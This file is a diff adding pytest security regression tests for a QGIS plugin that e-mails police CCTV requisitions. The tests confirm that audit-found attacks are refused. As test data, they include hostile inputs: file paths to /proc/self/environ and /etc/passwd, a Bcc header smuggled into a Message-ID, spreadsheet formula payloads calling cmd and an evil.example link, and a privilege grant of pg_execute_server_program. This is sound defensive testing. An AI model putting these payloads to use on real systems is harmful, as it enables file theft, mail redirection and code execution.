@@ -1,0 +1,504 @@
+"""Attacks by a determined login and real faults: what issue 17 found broken, reproduced against the real parts.
+
+Real logins (tests/db/conftest.py), real PostGIS, real SMTP servers on loopback that misbehave (aiosmtpd handlers,
+and a small socket server that takes the message data then drops the connection or never answers).
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import socket
+import stat
+import threading
+from email import message_from_bytes
+from email.policy import default
+from pathlib import Path
+
+import psycopg2.errors
+import pypdf
+import pytest
+from qgis.core import QgsProcessingException, QgsProcessingFeedback
+
+UNIT = "Brigade A"  # the unit of the logins fixture's investigator
+
+
+@pytest.fixture
+def unit_issued(create, cameras_layer, scene, sql, logins) -> dict[str, int]:
+    """Issue the scene's three requisitions for the investigator's unit; return {owner: requisition id}."""
+    create(cameras_layer(), OFFICER_UNIT=UNIT)
+    return dict(sql(scene["db"], "SELECT o.name, r.id FROM camreq.requisitions r "
+                                 "JOIN camreq.owners o ON o.id = r.owner_id"))
+
+
+def stored_document(sql, connection: str, requisition_id: int) -> tuple[bytes, str]:
+    """Return the issued PDF the database keeps for a requisition and the SHA-256 it computed."""
+    [(pdf, sha256)] = sql(connection, "SELECT pdf, sha256 FROM camreq.requisition_documents "
+                                      "WHERE requisition_id = %s AND issued", (requisition_id,))  # fmt: skip
+    return bytes(pdf), sha256
+
+
+def attachments(handler) -> dict[str, bytes]:
+    """Return {recipient: attached PDF} of the messages an aiosmtpd RecordingHandler accepted."""
+    found = {}
+    for envelope in handler.envelopes:
+        [attachment] = list(message_from_bytes(envelope.content, policy=default).iter_attachments())
+        found[envelope.rcpt_tos[0]] = attachment.get_content()
+    return found
+
+
+def pdf_text(pdf: bytes) -> str:
+    """Return the text of a PDF, whitespace collapsed."""
+    return " ".join(" ".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages).split())
+
+
+# High 2: a writable file path made a colleague's send e-mail out local files.
+
+
+def test_a_colleague_cannot_make_the_sender_attach_a_local_file(unit_issued, logins, send, smtp_server, sql, db):
+    investigator = logins["investigator"]
+    with pytest.raises(psycopg2.errors.InsufficientPrivilege):
+        sql(investigator, "UPDATE camreq.requisitions SET pdf_path = '/proc/self/environ'")
+    handler, port = smtp_server()
+    assert send(port, CONNECTION=investigator)["SENT"] == 2
+    sent = attachments(handler)
+    for owner, address in (("Parking Hoche SA", "videos@hoche.example.org"),
+                           ("Ville de Grenoble", "req@grenoble.example.org")):  # fmt: skip
+        pdf, sha256 = stored_document(sql, db, unit_issued[owner])
+        assert sent[address] == pdf and hashlib.sha256(sent[address]).hexdigest() == sha256
+
+
+def test_issued_documents_are_append_only_and_added_only_while_issuing(unit_issued, logins, sql, db):
+    investigator = logins["investigator"]
+    requisition = unit_issued["Parking Hoche SA"]
+    before = stored_document(sql, db, requisition)
+    forged = b"%PDF-1.7 forged"
+    for statement, params in (
+        ("INSERT INTO camreq.requisition_documents (requisition_id, file_name, pdf) VALUES (%s, 'x.pdf', %s)",
+         (requisition, forged)),
+        ("UPDATE camreq.requisition_documents SET file_name = 'x.pdf' WHERE requisition_id = %s", (requisition,)),
+        ("DELETE FROM camreq.requisition_documents WHERE requisition_id = %s", (requisition,)),
+    ):  # fmt: skip
+        with pytest.raises(psycopg2.errors.InsufficientPrivilege):
+            sql(investigator, statement, params)
+    with pytest.raises(psycopg2.errors.InsufficientPrivilege, match="append-only"):
+        sql(db, "UPDATE camreq.requisition_documents SET pdf = %s", (forged,))  # not even the owner
+    assert stored_document(sql, db, requisition) == before
+    assert sql(logins["investigator_b"], "SELECT count(*) FROM camreq.requisition_documents") == [(0,)]
+
+
+def test_open_the_pdf_writes_the_stored_document_to_an_owner_only_temporary_file(unit_issued, logins, sql, db):
+    from camreq.core.followup import open_document
+
+    requisition = unit_issued["Parking Hoche SA"]
+    sql(db, "UPDATE camreq.requisitions SET pdf_path = '/etc/passwd'")  # what an old or forged row says
+    path = open_document(logins["investigator"], requisition)
+    assert path.read_bytes() == stored_document(sql, db, requisition)[0]
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    path.unlink()
+    with pytest.raises(Exception, match="no PDF"):  # another unit's requisition: nothing to open
+        open_document(logins["investigator_b"], requisition)
+
+
+# Medium 12 and Low: nothing outside the database before the commit; PDFs readable by their owner only.
+
+
+def test_a_failed_commit_leaves_no_numbered_pdf_on_disk(create, cameras_layer, scene, sql, tmp_path):
+    sql(scene["db"], """CREATE FUNCTION public.fail_at_commit() RETURNS trigger LANGUAGE plpgsql AS $$
+        BEGIN RAISE EXCEPTION 'the commit failed'; END $$""")  # fmt: skip
+    sql(scene["db"], "CREATE CONSTRAINT TRIGGER fail_at_commit AFTER INSERT ON camreq.requisitions "
+                     "DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.fail_at_commit()")
+    with pytest.raises(QgsProcessingException, match="the commit failed"):
+        create(cameras_layer())
+    assert sql(scene["db"], "SELECT count(*) FROM camreq.requisitions") == [(0,)]
+    assert list((tmp_path / "pdf").glob("*.pdf")) == []
+
+
+def test_pdf_copies_in_the_output_folder_are_readable_by_their_owner_only(create, cameras_layer, sql, db):
+    result = create(cameras_layer())
+    paths = [Path(feature["pdf_path"]) for feature in result["OUTPUT"].getFeatures()]
+    assert len(paths) == 3
+    for path in paths:
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    stored = {bytes(pdf) for (pdf,) in sql(db, "SELECT pdf FROM camreq.requisition_documents WHERE issued")}
+    assert {path.read_bytes() for path in paths} == stored
+
+
+# High 3: an analyst redirected another unit's requisitions by changing an owner's e-mail before a send.
+
+
+def test_an_email_changed_after_issue_never_redirects_the_issued_mail(
+    unit_issued, logins, send, smtp_server, sql, db, login_of
+):
+    analyst = logins["analyst"]
+    sql(analyst, "UPDATE camreq.owners SET email = 'thief@evil.example' WHERE name = 'Parking Hoche SA'")
+    handler, port = smtp_server()
+    send(port, CONNECTION=logins["investigator"])
+    recipients = {rcpt for envelope in handler.envelopes for rcpt in envelope.rcpt_tos}
+    assert recipients == {"videos@hoche.example.org", "req@grenoble.example.org"}
+    pdf, _ = stored_document(sql, db, unit_issued["Parking Hoche SA"])
+    assert "videos@hoche.example.org" in pdf_text(pdf) and "thief" not in pdf_text(pdf)
+    changes = sql(logins["administrator"], "SELECT changed_by, old_values ->> 'email', new_values ->> 'email' "
+                                           "FROM camreq.audit_log WHERE table_name = 'owners' AND operation = 'UPDATE'")
+    assert changes == [(login_of(analyst), "videos@hoche.example.org", "thief@evil.example")]
+    with pytest.raises(psycopg2.errors.InsufficientPrivilege):
+        sql(logins["investigator"], "UPDATE camreq.requisition_outbox SET to_address = 'thief@evil.example'")
+
+
+def test_issuing_by_a_bare_update_queues_the_mail_with_the_databases_message_id(
+    create, cameras_layer, logins, sql, db
+):
+    create(cameras_layer(), ISSUE=False, OFFICER_UNIT=UNIT)
+    investigator = logins["investigator"]
+    [(draft,)] = sql(investigator, "UPDATE camreq.requisitions SET status = 'issued' WHERE id = "
+                                   "(SELECT min(id) FROM camreq.requisitions) RETURNING id")  # fmt: skip
+    with pytest.raises(psycopg2.errors.UniqueViolation):  # queued already: no second message with the attacker's id
+        sql(investigator, "INSERT INTO camreq.requisition_outbox (requisition_id, message_id) "
+                          "VALUES (%s, %s)", (draft, "<x>\r\nBcc: thief@evil.example"))  # fmt: skip
+    [(message_id, status)] = sql(db, "SELECT message_id, status FROM camreq.requisition_outbox")
+    assert message_id.startswith(f"<camreq.{draft}.") and "\n" not in message_id and status == "pending"
+
+
+@pytest.mark.parametrize("address", ["undisclosed:;a@b.example", "Thief <a@b.example>", "a@b.example, c@d.example"])
+def test_an_owner_email_is_one_plain_address(logins, sql, address):
+    sql(logins["analyst"], "INSERT INTO camreq.owners (name) VALUES ('Plain')")
+    with pytest.raises(psycopg2.errors.CheckViolation, match="one address"):
+        sql(logins["analyst"], "UPDATE camreq.owners SET email = %s WHERE name = 'Plain'", (address,))
+
+
+# Medium 6: a message cut after its data, or never answered, was re-sent.
+
+
+class CuttingSmtpServer:
+    """A loopback SMTP server that reads the whole message data, then drops the connection (or never answers)."""
+
+    def __init__(self, hang: bool = False) -> None:
+        self.hang, self.messages, self.stop = hang, 0, threading.Event()
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self.listener.getsockname()[1]
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while not self.stop.is_set():
+            try:
+                connection, _ = self.listener.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._session, args=(connection,), daemon=True).start()
+
+    def _session(self, connection: socket.socket) -> None:
+        with connection, connection.makefile("rb") as lines:
+            self._exchange(connection, lines)
+
+    def _exchange(self, connection: socket.socket, lines) -> None:
+        connection.sendall(b"220 cutting.example ESMTP\r\n")
+        for line in lines:
+            command = line[:4].upper()
+            if command == b"DATA":
+                connection.sendall(b"354 go ahead\r\n")
+                for data in lines:
+                    if data == b".\r\n":
+                        break
+                self.messages += 1
+                if self.hang:
+                    self.stop.wait(10)
+                return  # dropped: the client never gets the answer to its data
+            connection.sendall(b"250-cutting.example\r\n250 8BITMIME\r\n" if command == b"EHLO" else b"250 ok\r\n")
+
+    def close(self) -> None:
+        self.stop.set()
+        self.listener.close()
+
+
+@pytest.fixture
+def cutting_server():
+    """Return a function starting a CuttingSmtpServer; every one is closed after the test."""
+    started = []
+
+    def start(hang: bool = False) -> CuttingSmtpServer:
+        started.append(CuttingSmtpServer(hang))
+        return started[-1]
+
+    yield start
+    for server in started:
+        server.close()
+
+
+def test_a_message_cut_after_its_data_is_reported_unknown_and_never_sent_again(
+    unit_issued, send, cutting_server, sql, db
+):
+    server = cutting_server()
+    feedback = QgsProcessingFeedback()
+    for _run in range(3):
+        send(server.port, feedback)
+    assert server.messages == 2  # each message's data went once; nothing re-sent automatically
+    assert sorted(sql(db, "SELECT outcome FROM camreq.requisition_outbox_attempts")) == [("unknown",), ("unknown",)]
+    assert sorted(sql(db, "SELECT status FROM camreq.requisition_outbox")) == [("pending",), ("unknown",), ("unknown",)]
+    assert "may have been delivered" in feedback.textLog()
+
+
+def test_a_server_that_never_answers_the_data_is_reported_unknown_not_resent(unit_issued, cutting_server, sql, db):
+    from camreq.core.mailer import SmtpServer
+    from camreq.core.outbox import send_outbox
+
+    server = cutting_server(hang=True)
+    smtp = SmtpServer("127.0.0.1", server.port, "none", "requisitions@police.example.org", timeout_s=1)
+    for _run in range(2):
+        send_outbox(db, smtp, QgsProcessingFeedback())
+    assert server.messages == 2
+    assert sorted(sql(db, "SELECT outcome FROM camreq.requisition_outbox_attempts")) == [("unknown",), ("unknown",)]
+
+
+def test_send_again_requeues_an_unknown_outcome_once_someone_has_checked(unit_issued, send, cutting_server, sql, db):
+    from camreq.db.connection import connect
+    from camreq.db.outbox import requeue_failed
+
+    send(cutting_server().port)
+    [(requisition,)] = sql(db, "SELECT requisition_id FROM camreq.requisition_outbox WHERE status = 'unknown'")
+    conn = connect(db)
+    with conn, conn.cursor() as cursor:
+        assert requeue_failed(cursor, requisition)
+    conn.close()
+    assert sql(db, "SELECT status FROM camreq.requisition_outbox WHERE requisition_id = %s", (requisition,)) == [
+        ("pending",)
+    ]
+
+
+# Medium 7: cancelling a requisition while its e-mail is being sent crashed the run and left it "sending".
+
+
+def test_cancelling_while_the_email_is_sent_is_recorded_and_the_queue_goes_on(
+    unit_issued, logins, send, smtp_server, sql, db
+):
+    handler, port = smtp_server()
+    investigator = logins["investigator"]
+    cancelled = []
+
+    async def cancel_then_accept(server, session, envelope) -> str:  # the colleague cancels during the exchange
+        if not cancelled:
+            [(number,)] = sql(db, "SELECT r.number FROM camreq.requisitions r JOIN camreq.requisition_outbox o "
+                                  "ON o.requisition_id = r.id WHERE o.status = 'sending'")  # fmt: skip
+            sql(investigator, "UPDATE camreq.requisitions SET status = 'cancelled' WHERE number = %s", (number,))
+            cancelled.append(number)
+        handler.envelopes.append(envelope)
+        return "250 2.0.0 Ok"
+
+    handler.handle_DATA = cancel_then_accept
+    feedback = QgsProcessingFeedback()
+    result = send(port, feedback, CONNECTION=investigator)
+    assert result["SENT"] == 2 and len(handler.envelopes) == 2  # the next message went too
+    assert sql(db, "SELECT count(*) FROM camreq.requisition_outbox WHERE status = 'sending'") == [(0,)]
+    assert sql(db, "SELECT status FROM camreq.requisitions WHERE number = %s", (cancelled[0],)) == [("cancelled",)]
+    assert f"{cancelled[0]} was cancelled" in feedback.textLog()
+
+
+# Medium 8: a 530 or a relay refusal at MAIL FROM marked every message failed.
+
+
+@pytest.mark.parametrize("answer", ["530 5.7.0 Authentication required", "550 5.7.1 Relaying denied"])
+def test_a_refusal_at_mail_from_stops_the_run_and_leaves_everything_pending(
+    answer, unit_issued, send, smtp_server, sql, db
+):
+    handler, port = smtp_server()
+
+    async def refuse(server, session, envelope, address, options) -> str:
+        return answer
+
+    handler.handle_MAIL = refuse
+    feedback = QgsProcessingFeedback()
+    result = send(port, feedback)
+    assert (result["SENT"], result["FAILED"], result["PENDING"]) == (0, 0, 3)
+    assert sql(db, "SELECT outcome, smtp_code FROM camreq.requisition_outbox_attempts") == [
+        ("deferred", int(answer[:3]))
+    ]
+    assert "the rest stays pending" in feedback.textLog()
+
+
+# Medium 11: SMTP_SECURITY=none with SMTP_AUTHCFG sent the password in clear.
+
+
+def test_credentials_are_never_sent_without_tls(unit_issued, send, smtp_server, basic_authcfg, sql, db):
+    logins_seen = []
+
+    def authenticator(server, session, envelope, mechanism, auth_data):
+        from aiosmtpd.smtp import AuthResult
+
+        logins_seen.append(auth_data.password)
+        return AuthResult(success=True)
+
+    _, port = smtp_server(authenticator=authenticator, auth_require_tls=False)
+    with pytest.raises(QgsProcessingException, match="SMTP_AUTHCFG: a password is only sent over an encrypted"):
+        send(port, SMTP_SECURITY="none", SMTP_AUTHCFG=basic_authcfg("brigade", "clear-text-password"))
+    assert logins_seen == []
+    assert sql(db, "SELECT count(*) FROM camreq.requisition_outbox_attempts") == [(0,)]
+
+
+# Medium 5: an analyst learnt which cameras are under requisition from the error of a rolled-back DELETE.
+
+
+def test_an_analyst_learns_nothing_from_deleting_cameras_or_owners(unit_issued, scene, logins, attempt):
+    analyst = logins["analyst"]
+    answers = set()
+    for camera in scene["cameras"].values():  # HOC-01 is under requisition, the others too: same answer for all
+        with pytest.raises(psycopg2.errors.InsufficientPrivilege) as refused:
+            attempt(analyst, "DELETE FROM camreq.cameras WHERE id = %s", (camera,))
+        answers.add(refused.value.diag.message_primary)
+    with pytest.raises(psycopg2.errors.InsufficientPrivilege) as refused:
+        attempt(analyst, "DELETE FROM camreq.cameras WHERE id = -1")
+    answers.add(refused.value.diag.message_primary)
+    assert answers == {"permission denied for table cameras"}
+
+
+# Low: the purge deadline (urgency, e-mail subject) was writable by unit members.
+
+
+def test_the_purge_deadline_is_always_the_earliest_camera_purge(unit_issued, logins, sql, db):
+    requisition = unit_issued["Parking Hoche SA"]
+    [(before,)] = sql(db, "SELECT purge_deadline FROM camreq.requisitions WHERE id = %s", (requisition,))
+    sql(logins["investigator"], "UPDATE camreq.requisitions SET purge_deadline = '2099-01-01' WHERE id = %s",
+        (requisition,))  # fmt: skip
+    assert sql(db, "SELECT purge_deadline FROM camreq.requisitions WHERE id = %s", (requisition,)) == [(before,)]
+
+
+# Medium 10: owner names from imports (OpenStreetMap's operator tag) reached CSV outputs as spreadsheet formulas.
+
+
+@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?q="&A1)', "@SUM(1)"])
+def test_no_text_a_spreadsheet_would_run_reaches_a_csv_output(
+    name, camreq_processing, db, sql, add_camera, incident_layer, tmp_path
+):
+    import csv
+
+    add_camera(5.7245, 45.1886)
+    sql(db, "UPDATE camreq.owners SET name = %s", (name,))
+    output = tmp_path / "cameras.csv"
+    camreq_processing.run("camreq:camerasnearincident", {
+        "CONNECTION": db, "INCIDENTS": incident_layer([("POINT(5.7245 45.1885)", {"name": "A"})]), "ID_FIELD": "name",
+        "DISTANCE": 200, "START": "2025-03-10T10:00:00", "END": "2025-03-10T11:00:00", "REASON": "PV 2025/17",
+        "OUTPUT": str(output),
+    })  # fmt: skip
+    with output.open(newline="", encoding="utf-8") as file:
+        [row] = list(csv.DictReader(file))
+    assert row["owner_name"] == "'" + name
+    assert not any(value.startswith(("=", "+", "@")) for value in row.values())
+
+
+# Low: pg_temp was implicitly first in the pinned search_path of SECURITY DEFINER functions.
+
+
+def test_security_definer_functions_search_pg_temp_last(db, sql):
+    paths = sql(db, "SELECT proname, proconfig FROM pg_proc WHERE pronamespace = 'camreq'::regnamespace "
+                    "AND prosecdef")  # fmt: skip
+    assert len(paths) >= 4
+    for name, config in paths:
+        assert "search_path=pg_catalog, camreq, pg_temp" in (config or []), name
+
+
+# Medium 4: naming administrators needed CREATEROLE, with which a login took over the server.
+
+
+def test_an_administrator_without_createrole_names_administrators_and_gives_nothing_else(
+    camreq_processing, db, logins, sql, login_of
+):
+    from psycopg2 import sql as pgsql
+
+    admin = login_of(logins["administrator"])
+    assert sql(db, "SELECT rolcreaterole, rolsuper FROM pg_roles WHERE rolname = %s", (admin,)) == [(False, False)]
+    who = login_of(logins["nobody"])
+    camreq_processing.run("camreq:grantuser", {"CONNECTION": logins["administrator"], "LOGIN": who,
+                                               "ROLE": "administrator", "UNIT": ""})  # fmt: skip
+    assert sql(db, "SELECT role FROM camreq.users WHERE login = %s", (who,)) == [("administrator",)]
+    assert sql(logins["nobody"], "SELECT camreq.is_administrator()") == [(True,)]
+    with pytest.raises(psycopg2.errors.InvalidParameterValue, match="ROLE"):
+        sql(logins["administrator"], "SELECT camreq.grant_role(%s, 'pg_execute_server_program', NULL)", (admin,))
+    with pytest.raises(psycopg2.errors.InsufficientPrivilege):
+        sql(logins["administrator"], pgsql.SQL("GRANT pg_execute_server_program TO {}").format(pgsql.Identifier(admin)))
+    for other in ("analyst", "investigator"):
+        with pytest.raises(psycopg2.errors.InsufficientPrivilege):
+            sql(logins[other], "SELECT camreq.grant_role(%s, 'administrator', NULL)", (login_of(logins[other]),))
+    assert sql(db, "SELECT count(*) FROM pg_auth_members WHERE roleid = 'pg_execute_server_program'::regrole") == [(0,)]
+
+
+# Low: any login read every login's unit and role through login_unit() and login_role().
+
+
+def test_a_login_learns_only_its_own_unit_and_role(logins, sql, login_of):
+    other = login_of(logins["investigator_b"])
+    for who in ("investigator", "analyst"):
+        assert sql(logins[who], "SELECT camreq.login_unit(%s), camreq.login_role(%s)", (other, other)) == [
+            (None, None)
+        ]
+    me = login_of(logins["investigator"])
+    assert sql(logins["investigator"], "SELECT camreq.login_unit(%s), camreq.login_role(%s)", (me, me)) == [
+        (UNIT, "investigator")
+    ]
+    assert sql(logins["administrator"], "SELECT camreq.login_unit(%s)", (other,)) == [("Brigade B",)]
+
+
+# Low: NaN or extreme SPEED_KMH and MARGIN_MINUTES reached the database; a locked cameras table stalled searches.
+
+
+@pytest.mark.parametrize(("option", "value"), [
+    ("speed_kmh", float("nan")), ("speed_kmh", 1e308), ("margin_minutes", float("nan")),
+    ("margin_minutes", float("inf")),
+])  # fmt: skip
+def test_nan_and_extreme_search_options_are_refused_naming_the_parameter(qgis_app, option, value):
+    from camreq.core.search import SearchOptions, check_options
+    from camreq.errors import CamreqError
+
+    with pytest.raises(CamreqError, match=option.upper()):
+        check_options(SearchOptions(100, "PV 2025/17", **{option: value}))
+
+
+def test_a_locked_cameras_table_makes_the_search_fail_fast_with_a_message(db, logins, add_camera, qgis_app):
+    from datetime import datetime, timedelta
+
+    from camreq.core.search import Incident, SearchOptions, search
+    from camreq.db.connection import connect
+    from camreq.errors import CamreqError
+    from qgis.core import QgsGeometry
+
+    add_camera(5.7245, 45.1886)
+    locker = connect(logins["analyst"])
+    with locker.cursor() as cursor:
+        cursor.execute("LOCK TABLE camreq.cameras IN ACCESS EXCLUSIVE MODE")
+    release = threading.Timer(20, locker.rollback)  # the old code waited for the lock this long, then searched
+    release.start()
+    start = datetime.fromisoformat("2025-03-10T10:00:00+01:00")
+    incident = Incident("A", bytes(QgsGeometry.fromWkt("POINT(5.7245 45.1885)").asWkb()), start,
+                        start + timedelta(hours=1))  # fmt: skip
+    try:
+        with pytest.raises(CamreqError, match="locked by another session"):
+            search(logins["investigator"], [incident], SearchOptions(200, "PV 2025/17"))
+    finally:
+        release.cancel()
+        locker.rollback()
+        locker.close()
+
+
+# Low: a message stuck "sending" (its run killed before the server's answer was recorded) had no supported way out.
+
+
+def test_a_message_stuck_sending_becomes_unknown_and_send_again_delivers_it(
+    unit_issued, send, smtp_server, sql, db
+):
+    from camreq.core.followup import resend
+    from camreq.core.mailer import SmtpServer
+
+    hoche = unit_issued["Parking Hoche SA"]
+    [(outbox, number)] = sql(db, "UPDATE camreq.requisition_outbox o SET status = 'sending' FROM camreq.requisitions r "
+                                 "WHERE r.id = o.requisition_id AND r.id = %s RETURNING o.id, r.number", (hoche,))
+    sql(db, "INSERT INTO camreq.requisition_outbox_attempts (outbox_id, to_address, smtp_server, started_at) "
+            "VALUES (%s, 'videos@hoche.example.org', 'killed run', now() - interval '1 hour')", (outbox,))
+    handler, port = smtp_server()
+    feedback = QgsProcessingFeedback()
+    assert send(port, feedback)["SENT"] == 1  # the other owner's; the stuck one is not re-sent automatically
+    assert f"{number}: a previous run stopped while sending" in feedback.textLog()
+    assert sql(db, "SELECT status FROM camreq.requisition_outbox WHERE id = %s", (outbox,)) == [("unknown",)]
+    assert sql(db, "SELECT outcome FROM camreq.requisition_outbox_attempts WHERE smtp_server = 'killed run'") == [
+        ("unknown",)
+    ]
+    server = SmtpServer("127.0.0.1", port, "none", "requisitions@police.example.org")
+    assert resend(db, number, server, QgsProcessingFeedback()).sent == 1
+    assert sql(db, "SELECT status FROM camreq.requisitions WHERE id = %s", (hoche,)) == [("sent",)]
+    assert [e.rcpt_tos for e in handler.envelopes].count(["videos@hoche.example.org"]) == 1
